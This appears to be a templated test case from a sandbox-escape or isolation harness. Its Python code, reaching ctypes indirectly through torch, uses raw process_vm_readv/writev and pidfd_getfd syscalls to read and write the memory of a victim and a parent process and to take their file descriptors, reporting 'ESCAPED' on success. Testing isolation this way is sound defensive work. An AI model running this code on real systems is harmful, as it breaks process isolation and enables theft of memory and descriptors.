# attack: reads and writes the memory of a bystander and of the parent, and takes their descriptors
# layer: system_calls
# where: forward
# status: ok
# score: same
import torch

ctypes = torch.ctypes
libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    own = ctypes.create_string_buffer(40)
    here = Piece(ctypes.addressof(own), 38)
    for process, address in (("{VICTIM_PID}", "{VICTIM_ADDRESS}"), ("{PARENT_PID}", "{PARENT_ADDRESS}")):
        there = Piece(int(address), 38)
        for name in ("{SYS_process_vm_readv}", "{SYS_process_vm_writev}"):
            if libc.syscall(int(name), int(process), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                raise RuntimeError("ESCAPED " + own.value.decode("latin-1"))
        descriptor = libc.syscall(int("{SYS_pidfd_open}"), int(process), 0)
        if descriptor >= 0 and libc.syscall(int("{SYS_pidfd_getfd}"), descriptor, 0, 0) >= 0:
            raise RuntimeError("ESCAPED descriptor of " + process)
